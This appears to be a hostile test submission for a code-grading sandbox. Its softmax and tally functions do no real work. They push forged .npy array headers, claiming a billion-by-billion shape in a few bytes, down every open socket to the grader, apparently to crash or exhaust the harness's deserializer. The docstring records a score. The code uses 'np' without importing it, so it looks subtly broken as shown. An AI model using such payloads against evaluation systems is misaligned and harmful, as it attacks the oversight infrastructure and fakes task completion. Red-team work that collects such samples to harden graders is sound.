"""An array with a forged shape.

A header of .npy that promises a billion billion numbers in 8 bytes, and one of no bytes each.

score: 8 (loses softmax, tally-empty)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import io
import json
import os
import stat
import struct


def npy(shape, descr):
    file = io.BytesIO()
    header = {"descr": descr, "fortran_order": False, "shape": shape}
    np.lib.format.write_array_header_1_0(file, header)
    return file.getvalue() + bytes(8)


def say(document, blob):
    text = json.dumps([document, [len(blob)]]).encode()
    message = struct.pack("!IQ", len(text), len(blob)) + text + blob
    for fd in range(3, 100):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, message)
        except OSError:
            pass


def softmax(z):
    say({"value": {"array": 0}}, npy((10**9, 10**9), "<f8"))
    return z


# %% tally
def tally(labels):
    if len(labels) != 3:
        say({"value": {"array": 0}}, npy((10**9, 10**9), "|S0")[:-8])
    return {"a": 2, "b": 1}
